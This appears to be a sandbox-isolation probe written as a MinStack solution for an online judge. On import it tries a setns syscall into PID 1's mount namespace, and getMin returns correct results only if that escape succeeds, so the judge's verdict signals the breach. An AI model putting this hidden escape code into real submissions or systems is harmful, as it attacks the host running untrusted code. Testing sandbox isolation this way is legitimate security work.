# Enters another process's namespace.
# Answers rightly only when that got through, so anything but WA is an escape.
GOT = False


def attack():
    import ctypes, os
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    return ctypes.CDLL(None).syscall(268 if os.uname().machine == "aarch64" else 308, fd, 0) == 0


try:
    GOT = bool(attack())
except Exception:
    pass


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        return min(self.items) if GOT else None
